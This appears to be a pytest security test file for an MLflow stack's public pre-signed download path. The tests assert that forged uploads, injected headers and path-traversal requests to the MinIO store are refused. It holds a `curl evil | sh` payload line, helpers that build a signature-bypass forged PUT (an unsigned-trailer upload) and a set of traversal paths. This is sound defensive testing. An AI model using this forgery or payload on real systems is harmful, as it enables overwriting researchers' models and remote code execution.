"""The public pre-signed path (Route <app>-presigned -> the tracking NGINX's port 8081 -> the object store), tried
as an attacker who knows what every MLflow user knows: the access key id in `X-Amz-Credential` of the URLs the
server hands out. No password, no secret key.

Each request below must be refused and must leave the run's artifacts as they were; a genuine pre-signed
download still works (the 1 GiB round trip through the MLflow client is tests/stack/test_stack_user.py's).
"""

from __future__ import annotations

import base64
import http.client
import json
import time
import zlib
from datetime import datetime, timezone
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import pytest
import requests

pytestmark = [pytest.mark.stack, pytest.mark.slow]

ORIGINAL = b"the model the researcher logged\n"
EVIL = b"import os; os.system('curl evil | sh')\n"

LOG_ARTIFACT = """
import pathlib, mlflow
mlflow.set_experiment("security-presigned")
pathlib.Path("model").mkdir(exist_ok=True)
pathlib.Path("model/MLmodel").write_bytes({original!r})
with mlflow.start_run() as run:
    mlflow.log_artifacts("model", artifact_path="model")
    print("RUN", run.info.run_id, run.info.experiment_id)
"""

READ_ARTIFACTS = """
import mlflow
from mlflow.tracking import MlflowClient
c = MlflowClient()
files = sorted(f.path for f in c.list_artifacts("{run}", "model"))
print("FILES", ",".join(files))
print("BODY", open(mlflow.artifacts.download_artifacts(run_id="{run}", artifact_path="model/MLmodel"), "rb").read().hex())
"""


@pytest.fixture(scope="module")
def logged(stack):
    """A run whose model a researcher logged, and the pre-signed URL the server hands out for it (the only
    place the attacker needs: its X-Amz-Credential names the signing key id)."""
    out = stack.run_client(LOG_ARTIFACT.format(original=ORIGINAL)).stdout
    run, experiment = next(line.split()[1:] for line in out.splitlines() if line.startswith("RUN "))
    user, password = next(iter(stack.users().items()))
    r = requests.get(f"{stack.tracking_uri}/api/2.0/mlflow-artifacts/presigned/{experiment}/{run}/artifacts/model/MLmodel",
                     auth=(user, password), timeout=30)
    assert r.status_code == 200, (r.status_code, r.text[:300])
    url = r.json()["url"]
    assert url.startswith(stack.presigned_uri + "/"), (url, "the server's URL must name the public pre-signed path")
    return {"run": run, "url": url}


def _read_back(stack, run: str) -> tuple[list[str], bytes]:
    out = stack.run_client(READ_ARTIFACTS.format(run=run)).stdout
    files = next(line.split(" ", 1)[1] for line in out.splitlines() if line.startswith("FILES "))
    body = next(line.split(" ", 1)[1] for line in out.splitlines() if line.startswith("BODY "))
    return files.split(","), bytes.fromhex(body)


def _forged_url(genuine: str, key: str) -> str:
    """A pre-signed PUT URL for `key` with the key id of `genuine` and an all-zero signature."""
    s = urlsplit(genuine)
    key_id = dict(parse_qsl(s.query))["X-Amz-Credential"].split("/")[0]
    now = datetime.now(timezone.utc)
    query = {"X-Amz-Algorithm": "AWS4-HMAC-SHA256",
             "X-Amz-Credential": f"{key_id}/{now:%Y%m%d}/us-east-1/s3/aws4_request",
             "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}", "X-Amz-Expires": "300", "X-Amz-SignedHeaders": "host",
             "X-Amz-Signature": "0" * 64}
    return f"{s.scheme}://{s.netloc}/{quote(key)}?{urlencode(query)}"


def _trailer_body(payload: bytes) -> bytes:
    """An aws-chunked body with a CRC32 trailer (STREAMING-UNSIGNED-PAYLOAD-TRAILER)."""
    crc = base64.b64encode(zlib.crc32(payload).to_bytes(4, "big")).decode()
    return (f"{len(payload):x}\r\n".encode() + payload + b"\r\n0\r\n"
            + f"x-amz-checksum-crc32:{crc}\r\n\r\n".encode())


FORGERY_HEADERS = {
    "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
    "Content-Encoding": "aws-chunked",
    "X-Amz-Decoded-Content-Length": str(len(EVIL)),
    "X-Amz-Trailer": "x-amz-checksum-crc32",
}

# Headers that change how the store authenticates a request or reads and stores its body: each alone is refused.
REFUSED_HEADERS = {
    **FORGERY_HEADERS,
    "X-Amz-Content-Sha256 (unsigned)": ("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"),
    "X-Amz-Content-Sha256 (streaming signed)": ("X-Amz-Content-Sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
    "Authorization": "AWS4-HMAC-SHA256 Credential=x/20260101/us-east-1/s3/aws4_request, Signature=00",
    "X-Amz-Security-Token": "x",
    "X-Amz-Date": "20260101T000000Z",
    "X-Amz-Checksum-Crc32": "AAAAAA==",
    "X-Amz-Sdk-Checksum-Algorithm": "CRC32",
    "X-Amz-Copy-Source": "/default/x",
    "X-Amz-Meta-Snowball-Auto-Extract": "true",
    "X-Minio-Extract": "true",
    "X-Amz-Server-Side-Encryption": "AES256",
    "X-Amz-Acl": "public-read",
    "X-Amz-Tagging": "a=b",
    "X-Amz-Storage-Class": "STANDARD",
    "X-Amz-Website-Redirect-Location": "https://evil.example/",
    "X-Amz-Object-Lock-Mode": "GOVERNANCE",
    "X-Amz-Write-Offset-Bytes": "0",
}


def test_the_forged_unsigned_trailer_upload_is_refused(stack, logged):
    """CVE-2026-41145 / CVE-2026-40344: MinIO skips the signature of a STREAMING-UNSIGNED-PAYLOAD-TRAILER PUT
    whose credentials are in the query. Overwrite the run's MLmodel, and add a file next to it."""
    key = urlsplit(logged["url"]).path.lstrip("/").split("/", 1)[1]
    for target in (key, key.rsplit("/", 1)[0] + "/python_model.pkl"):
        url = _forged_url(logged["url"], f"default/{target}")
        r = requests.put(url, data=_trailer_body(EVIL), headers=FORGERY_HEADERS, timeout=30)
        assert r.status_code == 403, (target, r.status_code, r.text[:300])
    files, body = _read_back(stack, logged["run"])
    assert files == ["model/MLmodel"], files
    assert body == ORIGINAL


@pytest.mark.parametrize("name", sorted(REFUSED_HEADERS))
def test_each_header_that_changes_authentication_or_body_is_refused(stack, logged, name):
    header, value = REFUSED_HEADERS[name] if isinstance(REFUSED_HEADERS[name], tuple) else (name, REFUSED_HEADERS[name])
    key = urlsplit(logged["url"]).path.lstrip("/").split("/", 1)[1].rsplit("/", 1)[0] + "/header-probe"
    r = requests.put(_forged_url(logged["url"], f"default/{key}"), data=EVIL, headers={header: value}, timeout=30)
    assert r.status_code == 403, (header, r.status_code, r.text[:300])
    # ... and on a genuine download URL too: the header is refused, not passed on.
    r = requests.get(logged["url"], headers={header: value}, timeout=30)
    assert r.status_code == 403, (header, r.status_code, r.text[:300])


def test_genuine_download_passes_and_is_served_as_a_download(stack, logged):
    r = requests.get(logged["url"], timeout=30)
    assert r.status_code == 200 and r.content == ORIGINAL, (r.status_code, r.text[:300])
    assert r.headers.get("Content-Disposition", "").startswith("attachment"), r.headers
    assert r.headers.get("X-Content-Type-Options") == "nosniff", r.headers
    assert "sandbox" in r.headers.get("Content-Security-Policy", ""), r.headers
    # A range, as MLflow's parallel download asks for them.
    r = requests.get(logged["url"], headers={"Range": "bytes=4-8"}, timeout=30)
    assert r.status_code == 206 and r.content == ORIGINAL[4:9], (r.status_code, r.content)
    # A content type the client asks for is not a way to make it a page.
    s = urlsplit(logged["url"])
    page = f"{s.scheme}://{s.netloc}{s.path}?{s.query}&response-content-type=text%2Fhtml"
    assert requests.get(page, timeout=30).status_code == 403


@pytest.mark.parametrize("path", [
    "/default/../default/{key}", "/default/./{key}", "/default//{key}", "/default/%2e%2e/default/{key}",
    "/default/%2E/{key}", "/default%2f{key}", "/default/x/..%2f{key}", "/default/x%5c..%5c{key}",
    "/other/../default/{key}",
])
def test_paths_that_normalise_differently_are_refused(stack, logged, path):
    """NGINX checks the path it forwards: no dot segments, encoded dots or slashes, or double slashes. (Sent as
    written: http.client, since requests/urllib3 would remove the dot segments before sending.)"""
    s = urlsplit(logged["url"])
    key = s.path.lstrip("/").split("/", 1)[1]
    conn = http.client.HTTPConnection(s.hostname, s.port, timeout=30)
    try:
        conn.request("GET", f"{path.format(key=key)}?{s.query}")
        r = conn.getresponse()
        assert r.status in (400, 403), (path, r.status, r.read()[:300])
    finally:
        conn.close()


def test_presigned_query_strings_are_not_logged(stack, logged):
    requests.get(logged["url"], timeout=30)
    time.sleep(0.5)
    log = (stack.state / "nginx" / "access.log").read_text()
    signature = dict(parse_qsl(urlsplit(logged["url"]).query))["X-Amz-Signature"]
    assert signature not in log
    assert "X-Amz-Credential" not in log


@pytest.mark.parametrize("prefix", ["/api/2.0", "/ajax-api/2.0"])
def test_both_api_prefixes_answer_public_urls(stack, logged, prefix):
    """The UI's /ajax-api/ twins of the pre-signed and multipart calls get the same rewrite as /api/."""
    s = urlsplit(logged["url"])
    key = s.path.lstrip("/").split("/", 1)[1]
    auth = next(iter(stack.users().items()))
    r = requests.get(f"{stack.tracking_uri}{prefix}/mlflow-artifacts/presigned/{key}", auth=auth, timeout=30)
    assert r.status_code == 200, (r.status_code, r.text[:300])
    assert r.json()["url"].startswith(stack.presigned_uri + "/"), r.json()["url"]
    run_path = key.rsplit("/", 2)[0]
    r = requests.post(f"{stack.tracking_uri}{prefix}/mlflow-artifacts/mpu/create/{run_path}",
                      auth=auth, json={"path": "mpu-probe.bin", "num_parts": 2}, timeout=30)
    assert r.status_code == 200, (r.status_code, r.text[:300])
    body = r.json()
    urls = [c["url"] for c in body["credentials"]]
    assert urls and all(u.startswith(stack.presigned_uri + "/") for u in urls), json.dumps(body)[:500]
    requests.post(f"{stack.tracking_uri}{prefix}/mlflow-artifacts/mpu/abort/{run_path}", auth=auth,
                  json={"path": "mpu-probe.bin", "upload_id": body["upload_id"]}, timeout=30)
